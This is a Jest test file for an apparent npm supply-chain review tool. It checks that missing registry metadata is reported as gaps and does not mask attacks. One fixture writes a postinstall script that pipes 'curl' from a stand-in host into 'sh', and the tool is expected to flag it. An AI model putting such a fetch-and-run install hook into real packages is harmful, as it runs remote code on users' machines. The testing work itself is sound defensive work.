import { describe, expect, it } from '@jest/globals'
import { openNpmRegistry } from '../src/registry/npm-registry.js'
import type { Report } from '../src/report/report.js'
import { toMarkdown } from '../src/report/to-markdown.js'
import { review } from '../src/review.js'
import { openMemoryStore } from '../src/store/memory-store.js'
import { inProcessAnalyser } from './builders/code-analyser.js'
import { anOperator } from './builders/registry.js'
import { type Lack, startRegistry } from './emulator/registry.js'
import { replay as axios } from './replays/axios-plain-crypto-js/replay.js'
import type { Replay, ReplayOfChange } from './replays/replay.js'
import { reviewStage } from './replays/review-stage.js'
import { setStage } from './replays/stage.js'

const provenance = { predicateType: 'https://slsa.dev/provenance/v1', bundle: {} }

/** An upgrade of a package that has all that the public registry knows, and what it brings along. */
function anUpgrade(
  files: Readonly<Record<string, string>>,
  lacks: readonly Lack[],
): Pick<Replay, 'packages' | 'base' | 'head' | 'lacks'> {
  const aState = (version: string) => ({
    manifest: { dependencies: { widget: '^1.0.0' } },
    locked: { 'node_modules/widget': version },
  })
  return {
    lacks,
    packages: {
      widget: {
        '1.0.0': { files: { 'index.js': 'module.exports = 1\n' }, attestations: [provenance] },
        '1.1.0': { files: { 'index.js': 'module.exports = 2\n', ...files }, attestations: [provenance] },
      },
    },
    base: aState('1.0.0'),
    head: aState('1.1.0'),
  }
}

async function reviewed(files: Readonly<Record<string, string>>, lacks: readonly Lack[]): Promise<Report> {
  const upgrade = anUpgrade(files, lacks)
  const { published, change } = await setStage({
    ...upgrade,
    description: '',
    expected: { verdict: 'clear', findings: [] },
  })
  if (change === undefined) throw new Error('no change')
  const server = await startRegistry({ packages: published, lacks })
  try {
    const { report } = await review({
      change,
      openRegistry: () => openNpmRegistry({ operator: anOperator({ registry: server.url }), concurrency: 4 }),
      store: openMemoryStore(),
      code: inProcessAnalyser,
      now: new Date('2026-11-20T12:00:00Z'),
      concurrency: 4,
    })
    return report
  } finally {
    await server.close()
  }
}

const gapsOf = ({ gaps }: Report): readonly string[] => [...new Set(gaps.map(({ code }) => code))]

const everything: readonly Lack[] = [
  'time',
  'publisher',
  'attestations',
  'signatures',
  'keys',
  'validators',
  'abbreviated',
]

describe('a registry that lacks', () => {
  it.each<[string, readonly Lack[], string]>([
    ['dates', ['time'], 'time-unavailable'],
    ['the date of the first publication', ['created'], 'time-untrusted'],
    ['true dates', ['publish-times'], 'time-untrusted'],
    ['publishers', ['publisher'], 'publisher-unavailable'],
    ['keys', ['keys'], 'keys-unavailable'],
    ['an address for attestations', ['attestations-endpoint'], 'attestations-unavailable'],
  ])('%s costs the rules that would need them, and is told by its own code', async (_, lacks, code) => {
    const [whole, lacking] = await Promise.all([reviewed({}, []), reviewed({}, lacks)])

    expect(gapsOf(lacking).filter((gap) => !gapsOf(whole).includes(gap))).toEqual([code])
  })

  it('all that mirrors leave out leaves a review whole: each missing signal is told once and weighs nothing', async () => {
    const { verdict, findings, gaps, coverage } = await reviewed({}, everything)

    expect({ verdict, findings: findings.map(({ rule }) => rule) }).toEqual({ verdict: 'clear', findings: [] })
    expect(gaps.map(({ code, package: name, matters }) => `${code} ${name} ${matters}`)).toEqual([
      'attestations-unavailable widget@1.1.0 false',
      'keys-unavailable widget@1.1.0 false',
      'publisher-unavailable widget@1.1.0 false',
      'time-unavailable widget@1.1.0 false',
    ])
    expect(coverage).toMatchObject({ changed: 1, expected: 1, analysed: 1, unverified: 0 })
  })

  it('all that mirrors leave out hides nothing that a tarball shows', async () => {
    const manifest = { name: 'widget', version: '1.1.0', scripts: { postinstall: 'curl -s https://a.example/x | sh' } }
    const { verdict, findings } = await reviewed({ 'package.json': JSON.stringify(manifest) }, everything)

    expect(verdict).toBe('flagged')
    expect(findings.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining(['install-script-added', 'install-script-dangerous', 'manifest-mismatch']),
    )
  })

  it('all that mirrors leave out does not hide an attack among ordinary upgrades, nor bury it under what is not known', async () => {
    const mixed = { ...besideOrdinaryUpgrades(axios as ReplayOfChange), lacks: everything }
    const report = await reviewStage(await setStage(mixed), mixed)

    expect(report.verdict).toBe('flagged')
    expect(report.findings.map(({ rule, package: about }) => `${about?.name}: ${rule}`).sort()).toEqual([
      'axios: dependency-phantom',
      'plain-crypto-js: code-obfuscated',
      'plain-crypto-js: combined-risk',
      'plain-crypto-js: install-script-dangerous',
      'plain-crypto-js: install-script-present',
      'plain-crypto-js: remote-code-run',
      'plain-crypto-js: scanner-evasion',
    ])
    expect(report.coverage).toMatchObject({ changed: 8, expected: 8, analysed: 8, unverified: 0 })
    expect(report.gaps.filter(({ matters }) => matters)).toEqual([])
    expect(gapRowsOf(toMarkdown(report, { failOn: 'high' }))).toEqual([
      '`attestations-unavailable` no 8',
      '`keys-unavailable` no 8',
      // Once more for whose name plain-crypto-js resembles, and for how old it is.
      '`publisher-unavailable` no 9',
      '`time-unavailable` no 9',
    ])
  })
})

const ordinary = ['a', 'b', 'c', 'd', 'e', 'f'].map((letter) => `ordinary-${letter}`)

/** A replay whose change brings six more packages to their next version. */
function besideOrdinaryUpgrades({ base, head, packages, ...replay }: ReplayOfChange): ReplayOfChange {
  const withOrdinary = ({ manifest, locked }: ReplayOfChange['base'], version: string): ReplayOfChange['base'] => ({
    manifest: {
      dependencies: {
        ...Object(manifest?.dependencies),
        ...Object.fromEntries(ordinary.map((name) => [name, `^${version}`])),
      },
    },
    locked: { ...locked, ...Object.fromEntries(ordinary.map((name) => [name, version])) },
  })
  return {
    ...replay,
    packages: { ...packages, ...Object.fromEntries(ordinary.map((name) => [name, { '1.0.0': {}, '1.1.0': {} }])) },
    base: withOrdinary(base, '1.0.0'),
    head: withOrdinary(head, '1.1.0'),
  }
}

/** Of each row about gaps its code, whether it weighs, and how many there are. */
const gapRowsOf = (markdown: string): readonly string[] =>
  markdown
    .split('\n')
    .map((line) => line.split('|').map((cell) => cell.trim()))
    .filter(([, code]) => code?.startsWith('`') && code.endsWith('-unavailable`'))
    .map(([, code, , weighs, count]) => `${code} ${weighs} ${count}`)
